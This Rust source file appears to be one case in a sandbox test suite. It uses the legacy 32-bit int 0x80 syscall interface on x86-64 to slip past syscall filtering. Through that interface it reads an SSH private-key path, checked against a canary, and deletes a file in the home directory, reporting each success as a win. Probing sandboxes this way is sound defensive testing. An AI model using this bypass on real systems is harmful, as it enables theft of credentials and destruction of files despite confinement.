//! `int 0x80`: the kernel's other door, where the numbers mean other calls.

use std::arch::asm;

use trick::sys::call;

const MMAP: i64 = 9;
const MAP_32BIT: i64 = 0x40;
const OPEN: i64 = 5;
const READ: i64 = 3;
const UNLINK: i64 = 10;

fn call_32(number: i64, a: i64, b: i64, c: i64) -> i32 {
    let result: i64;
    unsafe {
        asm!(
            "push rbx", "mov ebx, esi", "int 0x80", "pop rbx",
            inlateout("rax") number => result, in("rsi") a, in("rcx") b, in("rdx") c,
            lateout("r8") _, lateout("r9") _, lateout("r10") _, lateout("r11") _,
        );
    }
    result as i32
}

fn main() {
    let low = call(MMAP, &[0, 8192, 3, 0x22 | MAP_32BIT, -1, 0]).unwrap();
    let text = |path: std::path::PathBuf| {
        let path = trick::c(path);
        let bytes = path.as_bytes_with_nul();
        unsafe { (low as *mut u8).copy_from(bytes.as_ptr(), bytes.len()) };
    };
    text(trick::ssh_key());
    let fd = call_32(OPEN, low, 0, 0);
    if fd >= 0 {
        let length = call_32(READ, fd.into(), low + 4096, 4096).max(0) as usize;
        if trick::is_canary(unsafe { std::slice::from_raw_parts((low + 4096) as *const u8, length) }) {
            trick::won("open");
        }
    }
    let doomed = trick::home().join("near/doomed");
    let was = doomed.exists();
    text(doomed.clone());
    call_32(UNLINK, low, 0, 0);
    if was && !doomed.exists() {
        trick::won("unlink");
    }
}
